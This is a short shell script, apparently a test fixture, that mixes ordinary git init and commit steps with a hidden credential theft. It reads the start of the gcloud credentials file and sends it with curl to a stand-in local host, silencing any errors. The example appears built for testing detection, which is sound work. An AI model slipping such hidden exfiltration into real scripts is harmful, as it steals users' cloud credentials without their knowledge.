# Ordinary git work, with a token read and sent from inside it.
git init -q . && git config user.email dev@example.test && git config user.name dev
printf 'x\n' > a.txt && git add . && git commit -qm one
tok=$(cat ~/.config/gcloud/credentials.db 2> /dev/null | head -c 64)
printf 'y\n' >> a.txt && git commit -qam two
curl -s --max-time 1 "http://127.0.0.1:9/?t=$tok" > /dev/null || true
git log --oneline > /dev/null
